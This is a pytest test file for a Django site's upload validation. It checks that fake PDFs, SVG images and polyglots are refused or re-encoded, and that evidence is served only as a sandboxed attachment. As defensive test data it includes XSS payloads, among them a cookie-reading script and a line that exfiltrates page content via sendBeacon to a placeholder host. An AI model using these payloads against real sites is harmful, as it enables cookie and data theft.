"""Uploads are judged by content, stored under random names, and evidence is only downloaded.

An editor of any co-sponsor uploads campaign images and outcome evidence that the public then
opens from our origin: a "PDF" that is HTML, an SVG "picture" or a polyglot must not get there.
"""

from __future__ import annotations

import io
import re

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from campaigns.models import Campaign, OutcomeEvent
from foundation import uploads

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
JS = b"fetch('/organizations/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"
PAYLOAD = b"<script>alert('polyglot')</script>"
RANDOM_NAME = re.compile(r"^(campaigns|evidence)/[A-Za-z0-9_-]{22}\.(png|jpg|pdf)$")


def _image(kind: str = "PNG", size: tuple[int, int] = (16, 12), **save: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, format=kind, **save)
    return out.getvalue()


def _upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


# --- the checks themselves --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.pdf", HTML),
        ("report.pdf", SVG),
        ("report.pdf", JS),
        ("report.pdf", b""),
        ("report.pdf", b"%PDF-1.4\n" + HTML),  # a header, then a page, and no PDF end
        ("report.pdf", b"   %PDF-1.4\n%%EOF"),  # leading bytes a browser could sniff
        ("photo.png", SVG),
        ("photo.jpg", HTML),
    ],
)
def test_evidence_that_is_not_a_pdf_or_picture_is_refused(name, content):
    with pytest.raises(ValidationError):
        uploads.clean_evidence(_upload(name, content))


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.pdf", _image("PNG")),  # a PNG renamed .pdf
        ("report.pdf", _image("JPEG")),
        ("photo.png", PDF),
        ("photo.png", _image("JPEG")),
        ("photo", _image("PNG")),
    ],
)
def test_a_file_whose_name_disagrees_with_its_content_is_refused(name, content):
    with pytest.raises(ValidationError, match="does not match its name"):
        uploads.clean_evidence(_upload(name, content))


def test_a_real_pdf_is_accepted_unchanged():
    stored = uploads.clean_evidence(_upload("Minutes of the meeting.PDF", PDF))
    assert stored.read() == PDF
    assert stored.name == "upload.pdf"


@pytest.mark.parametrize(
    "content",
    [
        b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,  # a PNG signature, then garbage
        _image("PNG", (64, 64))[:120],  # truncated
        b"\xff\xd8\xff\xe0" + HTML,  # a JPEG start, then a web page
    ],
    ids=["garbage", "truncated", "jpeg-html"],
)
def test_a_corrupt_image_is_refused(content):
    name = "photo.jpg" if content.startswith(b"\xff\xd8") else "photo.png"
    with pytest.raises(ValidationError):
        uploads.clean_image(_upload(name, content))
    with pytest.raises(ValidationError):
        uploads.clean_evidence(_upload(name, content))


def test_a_polyglot_image_keeps_only_its_pixels():
    # A valid PNG with a script appended decodes fine; what we store is encoded anew.
    stored = uploads.clean_image(_upload("photo.png", _image("PNG") + PAYLOAD)).read()
    assert PAYLOAD not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert (image.format, image.size) == ("PNG", (16, 12))


def test_a_photo_loses_its_exif_location():
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (55.0, 45.0, 0.0)}  # GPS: where the office is
    exif[0x010F] = "PhoneMaker"
    photo = _image("JPEG", exif=exif.tobytes())
    assert b"PhoneMaker" in photo
    stored = uploads.clean_image(_upload("office.jpg", photo)).read()
    assert b"PhoneMaker" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert not image.getexif()


@pytest.mark.parametrize("kind", ["GIF", "BMP", "TIFF"])
def test_campaign_images_are_png_or_jpeg_only(kind):
    with pytest.raises(ValidationError):
        uploads.clean_image(_upload(f"photo.{kind.lower()}", _image(kind)))


def test_an_image_claiming_a_huge_canvas_is_refused():
    out = io.BytesIO()
    Image.new("1", (8000, 6000)).save(out, format="PNG")  # 48 Mpx in a few kilobytes
    with pytest.raises(ValidationError, match="too large"):
        uploads.clean_image(_upload("bomb.png", out.getvalue()))


def test_upload_names_are_random_and_keep_only_a_verified_extension():
    names = {uploads.evidence_path(None, "../../etc/Minutes <script>.pdf") for _ in range(50)}
    assert len(names) == 50
    assert all(RANDOM_NAME.match(name) for name in names)
    assert RANDOM_NAME.match(uploads.campaign_image_path(None, "x.jpeg"))
    assert not uploads.evidence_path(None, "page.html").endswith(".html")


# --- through the editor's forms ---------------------------------------------------------------


def _outcome_url(live) -> str:
    return reverse(
        "campaigns:outcome_create",
        kwargs={"org": live.orgs[0].slug, "slug": live.campaign.slug},
    )


def _outcome(evidence: SimpleUploadedFile) -> dict[str, object]:
    return {
        "kind": OutcomeEvent.Kind.MEETING,
        "date": timezone.localdate().isoformat(),
        "description_en": "Met the Commission.",
        "evidence_file": evidence,
    }


@pytest.mark.parametrize("content", [HTML, SVG, _image("PNG")], ids=["html", "svg", "png"])
def test_an_editor_cannot_upload_a_fake_pdf(client, live, content):
    client.force_login(live.admins[0])
    response = client.post(_outcome_url(live), _outcome(_upload("evidence.pdf", content)))
    assert response.status_code == 400
    assert response.context["form"].errors["evidence_file"]
    assert not OutcomeEvent.objects.filter(description_en="Met the Commission.").exists()


def test_evidence_is_stored_under_a_random_name_and_downloaded_as_an_attachment(client, live):
    client.force_login(live.admins[0])
    response = client.post(_outcome_url(live), _outcome(_upload("Secret minutes.pdf", PDF)))
    assert response.status_code == 302
    event = OutcomeEvent.objects.get(description_en="Met the Commission.")
    assert RANDOM_NAME.match(event.evidence_file.name)
    assert "Secret" not in event.evidence_file.name

    client.logout()
    download = client.get(reverse("campaigns:evidence", args=[event.pk]))
    assert download.status_code == 200
    assert download["Content-Type"] == "application/pdf"
    assert download["Content-Disposition"] == f'attachment; filename="evidence-{event.pk}.pdf"'
    assert download["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in download["Content-Security-Policy"]
    assert b"".join(download.streaming_content) == PDF
    # the public timeline links to the download, not to the stored file
    page = client.get(live.campaign.get_absolute_url()).content.decode()
    assert reverse("campaigns:evidence", args=[event.pk]) in page
    assert event.evidence_file.name not in page


def test_evidence_of_a_campaign_the_public_cannot_see_is_not_served(client, live):
    event = OutcomeEvent.objects.create(
        campaign=live.campaign,
        kind=OutcomeEvent.Kind.MEETING,
        date=timezone.localdate(),
        description_en="x",
        evidence_file=SimpleUploadedFile("a.pdf", PDF),
    )
    Campaign.objects.filter(pk=live.campaign.pk).update(status=Campaign.Status.DRAFT)
    assert client.get(reverse("campaigns:evidence", args=[event.pk])).status_code == 404


def test_evidence_whose_file_is_gone_answers_404(client, live):
    event = OutcomeEvent.objects.create(
        campaign=live.campaign,
        kind=OutcomeEvent.Kind.MEETING,
        date=timezone.localdate(),
        description_en="x",
        evidence_file=SimpleUploadedFile("a.pdf", PDF),
    )
    event.evidence_file.storage.delete(event.evidence_file.name)
    assert client.get(reverse("campaigns:evidence", args=[event.pk])).status_code == 404


def _campaign_edit(client, live, image: SimpleUploadedFile):
    campaign = live.campaign
    return client.post(
        reverse("campaigns:edit", kwargs={"org": live.orgs[0].slug, "slug": campaign.slug}),
        {
            "issue_area": campaign.issue_area_id,
            "title_en": campaign.title_en,
            "title_ru": campaign.title_ru,
            "summary_en": campaign.summary_en,
            "summary_ru": campaign.summary_ru,
            "body_en": campaign.body_en,
            "body_ru": campaign.body_ru,
            "image": image,
            "image_alt": "The coalition's banner",
        },
    )


def test_a_campaign_image_that_is_svg_is_refused(client, live):
    client.force_login(live.admins[0])
    response = _campaign_edit(client, live, _upload("banner.png", SVG))
    assert response.status_code == 400
    assert response.context["form"].errors["image"]
    live.campaign.refresh_from_db()
    assert not live.campaign.image


def test_a_campaign_image_is_re_encoded_under_a_random_name(client, live):
    client.force_login(live.admins[0])
    response = _campaign_edit(client, live, _upload("our office.png", _image("PNG") + PAYLOAD))
    assert response.status_code == 302, response.context["form"].errors
    live.campaign.refresh_from_db()
    assert RANDOM_NAME.match(live.campaign.image.name)
    with live.campaign.image.open("rb") as stored:
        assert PAYLOAD not in stored.read()
